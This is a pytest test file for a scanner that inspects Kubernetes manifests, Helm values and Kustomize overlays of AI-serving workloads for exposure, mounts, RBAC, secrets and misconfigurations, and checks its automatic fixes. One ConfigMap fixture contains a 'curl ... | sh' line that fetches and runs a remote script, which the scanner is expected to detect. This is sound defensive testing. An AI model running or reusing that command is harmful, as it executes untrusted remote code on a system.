"""Kubernetes beyond pods: custom resources, rights, ways in, mounts, files inside ConfigMaps, values without a chart."""

from pathlib import Path

import pytest

from undercroft.catalogue import loader
from undercroft.loop.edits import apply
from undercroft.model.evidence import FileEvidence
from undercroft.model.exposure import Reach
from undercroft.model.finding import Finding
from undercroft.scan.collect.files import collect
from undercroft.scan.graph import Graph
from undercroft.scan.run import Request, scan

CONTAINER = "{name: main, image: 'vllm/vllm-openai:v0.8.5', args: [--model, m]}"


def graph(tmp_path: Path, text: str, name: str = "a.yaml") -> Graph:
    (tmp_path / name).write_text(text)
    return collect.collect([tmp_path], dict(loader.load().components))[0]


@pytest.mark.parametrize(
    ("kind", "spec"),
    [
        ("InferenceService", "{predictor: {containers: [C]}}"),
        ("ClusterServingRuntime", "{containers: [C]}"),
        ("RayCluster", "{headGroupSpec: {template: {spec: {containers: [C]}}}}"),
        ("RayService", "{rayClusterConfig: {workerGroupSpecs: [{groupName: g, template: {spec: {containers: [C]}}}]}}"),
        ("SeldonDeployment", "{predictors: [{componentSpecs: [{spec: {containers: [C]}}]}]}"),
        ("PyTorchJob", "{pytorchReplicaSpecs: {Worker: {template: {spec: {containers: [C]}}}}}"),
        ("MPIJob", "{mpiReplicaSpecs: {Launcher: {template: {spec: {containers: [C]}}}}}"),
        ("Notebook", "{template: {spec: {containers: [C]}}}"),
        ("LeaderWorkerSet", "{leaderWorkerTemplate: {workerTemplate: {spec: {containers: [C]}}}}"),
        ("Workflow", "{templates: [{name: t, container: C}]}"),
        ("CronWorkflow", "{workflowSpec: {templates: [{name: t, container: C}]}}"),
        ("Rollout", "{template: {spec: {containers: [C]}}}"),
    ],
)
def test_a_pod_inside_a_custom_resource_is_a_workload(tmp_path: Path, kind: str, spec: str) -> None:
    found = graph(
        tmp_path,
        f"apiVersion: x/v1\nkind: {kind}\nmetadata: {{name: a}}\nspec: {spec.replace('C]', CONTAINER + ']').replace('container: C', 'container: ' + CONTAINER)}\n",
    )
    assert [[r.component.slug for r in w.running] for w in found.workloads] == [["vllm"]]


def test_a_knative_service_is_no_way_in_but_a_workload(tmp_path: Path) -> None:
    found = graph(
        tmp_path,
        f"apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata: {{name: a}}\nspec: {{template: {{spec: {{containers: [{CONTAINER}]}}}}}}\n",
    )
    assert found.routes == ()
    assert len(found.workloads) == 1


def test_a_schema_that_has_containers_is_no_workload(tmp_path: Path) -> None:
    found = graph(
        tmp_path,
        f"apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {{name: a}}\nspec: {{containers: [{CONTAINER}]}}\n",
    )
    assert found.workloads == ()


POD = f"apiVersion: v1\nkind: Pod\nmetadata: {{name: llm, labels: {{app: llm}}}}\nspec: {{containers: [{CONTAINER}]}}\n---\n"
SERVICE = "apiVersion: v1\nkind: Service\nmetadata: {name: llm}\nspec: {selector: {app: llm}, ports: [{port: 80, targetPort: 8000}]}\n---\n"
GATEWAY = "apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata: {name: edge}\nspec: {gatewayClassName: CLASS, listeners: [{name: a, port: 443, protocol: HTTPS}]}\n---\n"
HTTP_ROUTE = "apiVersion: gateway.networking.k8s.io/v1\nkind: HTTPRoute\nmetadata: {name: r}\nspec: {parentRefs: [{name: edge}], rules: [{backendRefs: [{name: llm, port: 80}]}]}\n"


@pytest.mark.parametrize(
    ("gateway", "reach"),
    [("gke-l7-global-external-managed", Reach.INTERNET), ("gke-l7-rilb", Reach.PRIVATE)],
)
def test_a_route_is_as_public_as_its_gateway(tmp_path: Path, gateway: str, reach: Reach) -> None:
    found = graph(tmp_path, POD + SERVICE + GATEWAY.replace("CLASS", gateway) + HTTP_ROUTE)
    assert found.workloads[0].exposure.reach is reach


def test_a_virtual_service_opens_what_it_names(tmp_path: Path) -> None:
    way = "apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {name: r}\nspec: {gateways: [edge], hosts: ['*'], http: [{route: [{destination: {host: llm.default.svc.cluster.local}}]}]}\n"
    assert graph(tmp_path, POD + SERVICE + way).workloads[0].exposure.reach is Reach.INTERNET


def test_a_named_port_opens_that_port_alone(tmp_path: Path) -> None:
    pod = POD.replace("args:", "ports: [{containerPort: 8000, name: api}, {containerPort: 9000, name: admin}], args:")
    service = SERVICE.replace("targetPort: 8000", "targetPort: api").replace("selector", "type: LoadBalancer, selector")
    listeners = graph(tmp_path, pod + service).workloads[0].listeners
    reach = {x.port: x.exposure.reach for x in listeners}
    assert (reach[8000], reach[9000]) == (Reach.INTERNET, Reach.CLUSTER)


@pytest.mark.parametrize(
    ("own", "shared", "read_only"), [("true", "false", True), ("false", "true", True), ("false", "false", False)]
)
def test_a_mount_is_read_only_when_mount_or_volume_says_so(
    tmp_path: Path, own: str, shared: str, read_only: bool
) -> None:
    pod = f"apiVersion: v1\nkind: Pod\nmetadata: {{name: a}}\nspec:\n  volumes: [{{name: d, nfs: {{server: s, path: /m, readOnly: {shared}}}}}]\n  containers: [{{name: a, image: 'a:1', volumeMounts: [{{name: d, mountPath: /d, readOnly: {own}}}]}}]\n"
    (mount,) = graph(tmp_path, pod).workloads[0].mounts
    assert (mount.kind, mount.source, mount.target, mount.read_only) == ("nfs", "s:/m", "/d", read_only)


def test_a_secret_without_data_holds_no_secret(tmp_path: Path) -> None:
    assert graph(tmp_path, "apiVersion: v1\nkind: Secret\nmetadata: {name: cert, namespace: a}\n").secrets == ()


def test_a_rule_knows_where_its_words_stand(tmp_path: Path) -> None:
    text = "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: r}\nrules:\n  - apiGroups: ['']\n    resources:\n      - pods\n      - pods/exec\n    verbs: [create]\n"
    (role,) = graph(tmp_path, text).roles
    place = role.rules[0].places["resources:pods/exec"]
    assert isinstance(place, FileEvidence)
    assert place.line == 8


def test_configuration_in_a_config_map_is_read_at_its_place(tmp_path: Path) -> None:
    text = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  run.sh: |\n    #!/bin/sh\n    curl -s http://x.example/i.sh | sh\n"
    (tmp_path / "a.yaml").write_text(text)
    found = scan(Request((str(tmp_path),)), dict(loader.load().components)).result.findings
    assert ("curl-pipe-shell", 7) in {
        (f.check, e.line) for f in found for e in f.evidence if isinstance(e, FileEvidence)
    }


def test_list_items_that_are_not_aligned_are_read_and_told(tmp_path: Path) -> None:
    text = "apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata: {name: g}\nspec:\n  listeners:\n  -   name: http\n    protocol: HTTP\n    port: 80\n"
    (tmp_path / "a.yaml").write_text(text)
    found, unread, _, _ = collect.collect([tmp_path], {})
    assert [route.kind for route in found.routes] == ["Gateway"]
    assert [(u.partial, u.place) for u in unread] == [(True, "a.yaml")]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("image: {registry: ghcr.io, repository: a/b, tag: '1.0'}\n", "ghcr.io/a/b:1.0"),
        ("server:\n  image: a/b:latest\n  service: {type: ClusterIP}\n", "a/b:latest"),
        ("image: {repository: a/b, digest: 'sha256:00'}\n", "a/b@sha256:00"),
        ("torch_image: a/b:latest\n", "a/b:latest"),
    ],
)
def test_values_name_an_image_in_several_ways(tmp_path: Path, text: str, value: str) -> None:
    found = graph(tmp_path, text, "values.yaml")
    assert [w.image.value for w in found.workloads if w.image is not None] == [value]


def test_an_image_whose_tag_the_chart_decides_is_not_judged(tmp_path: Path) -> None:
    found = graph(tmp_path, "image: {repository: vllm/vllm-openai, tag: ''}\n", "values.yaml")
    assert [(w.image, [r.component.slug for r in w.running]) for w in found.workloads] == [(None, ["vllm"])]


def test_a_compose_file_is_no_values_file(tmp_path: Path) -> None:
    found = graph(tmp_path, "services:\n  a:\n    image: a/b:latest\n    password: x\n", "stack.yaml")
    assert [w for w in found.workloads if w.format == "helm"] == []


def test_the_values_of_a_release_object_are_read(tmp_path: Path) -> None:
    text = "apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {name: a}\nspec:\n  values:\n    auth: {enabled: false}\n"
    assert [(s.path, s.on) for s in graph(tmp_path, text).switches] == [("auth.enabled", False)]


@pytest.mark.parametrize(
    ("key", "kept"),
    [("apiKey", True), ("existingSecret", False), ("passwordKey", False), ("secretName", False), ("secretKey", True)],
)
def test_a_key_that_names_where_a_secret_is_kept_is_none(tmp_path: Path, key: str, kept: bool) -> None:
    found = graph(tmp_path, f"a:\n  {key}: 7hJq2LmPz0aa\n", "values.yaml")
    assert bool(found.secrets) is kept


BASE = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: llm}\nspec:\n  selector: {matchLabels: {app: llm}}\n  template:\n    metadata: {labels: {app: llm}}\n    spec: {containers: [{name: main, image: 'example/llm:latest'}]}\n"
PATCH = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: llm}\nspec:\n  template:\n    spec: {containers: [{name: main, resources: {limits: {memory: 1Gi}}, securityContext: {runAsUser: 1000}}]}\n"


def tree_of(tmp_path: Path, **files: str) -> Graph:
    for name, text in files.items():
        path = tmp_path / (name.replace("__", "/") + ".yaml")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return collect.collect([tmp_path], dict(loader.load().components))[0]


def test_an_overlay_that_pins_an_image_wins(tmp_path: Path) -> None:
    found = tree_of(
        tmp_path,
        base__llm=BASE,
        base__kustomization="resources: [llm.yaml]\n",
        prod__kustomization="resources: [../base]\nimages:\n  - name: example/llm\n    newTag: 1.2.3\n",
    )
    assert [w.image.value for w in found.workloads if w.image is not None] == ["example/llm:1.2.3"]


def test_an_overlays_patch_is_joined_with_what_it_patches(tmp_path: Path) -> None:
    found = tree_of(
        tmp_path,
        base__llm=BASE,
        base__kustomization="resources: [llm.yaml]\n",
        prod__limit=PATCH,
        prod__kustomization="resources: [../base]\npatches:\n  - path: limit.yaml\n",
    )
    (workload,) = found.workloads
    assert (workload.container["memory-limit"].value, workload.container["user"].value) == ("1Gi", "1000")


def test_two_overlays_that_disagree_leave_the_base_as_it_is_written(tmp_path: Path) -> None:
    images = "resources: [../base]\nimages:\n  - name: example/llm\n    newTag: TAG\n"
    found = tree_of(
        tmp_path,
        base__llm=BASE,
        base__kustomization="resources: [llm.yaml]\n",
        prod__kustomization=images.replace("TAG", "1.2.3"),
        test__kustomization=images.replace("TAG", "nightly"),
    )
    assert [w.image.value for w in found.workloads if w.image is not None] == ["example/llm:latest"]


def test_bases_that_name_one_another_end(tmp_path: Path) -> None:
    found = tree_of(
        tmp_path, a__kustomization="resources: [../b]\n", b__kustomization="resources: [../a, llm.yaml]\n", b__llm=BASE
    )
    assert len(found.workloads) == 1


@pytest.mark.parametrize(
    ("check", "text"),
    [
        ("no-security-context", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n    - name: a\n      image: vllm/vllm-openai:v0.8.5\n"),
        ("no-security-context", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n    - name: a\n      image: a/b:1\n      securityContext: {}\n"),
        ("public-service", "apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec:\n  type: LoadBalancer\n  selector: {app: a}\n  ports: [{port: 80}]\n"),
        ("writable-model-store", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  volumes: [{name: d, nfs: {server: s, path: /m}}]\n  containers:\n    - name: a\n      image: a/b:1\n      args: [--model, /d/m]\n      volumeMounts:\n        - {name: d, mountPath: /d, readOnly: false}\n"),
    ],
)  # fmt: skip
def test_a_fix_takes_its_finding_away(tmp_path: Path, check: str, text: str) -> None:
    components = dict(loader.load().components)

    def found() -> list[Finding]:
        return [f for f in scan(Request((str(tmp_path),)), components).result.findings if f.check == check]

    (tmp_path / "a.yaml").write_text(text)
    (finding,) = found()
    assert finding.fix.edits
    (tmp_path / "a.yaml").write_text(apply(text, finding.fix.edits))
    assert found() == []


@pytest.mark.parametrize(
    "text", ["kind: [", "apiVersion: v1\nkind: Pod\nspec: 3\n", "apiVersion: v1\nkind: {a: b}\n", "apiVersion: v1\nkind: List\nitems: {a: 1}\n", "\x00\x01", "a: &a [*a]\nimage: {repository: &b {x: *b}}\n",
             "apiVersion: v1\nkind: Role\nrules: x\n", "apiVersion: v1\nkind: Service\nspec: {ports: [x], selector: y}\n"],
)  # fmt: skip
def test_an_odd_object_is_read_or_told_and_never_stops_the_scan(tmp_path: Path, text: str) -> None:
    for name in ("a.yaml", "values.yaml", "kustomization.yaml", "c/templates/a.yaml"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    assert scan(Request((str(tmp_path),)), dict(loader.load().components)).result is not None
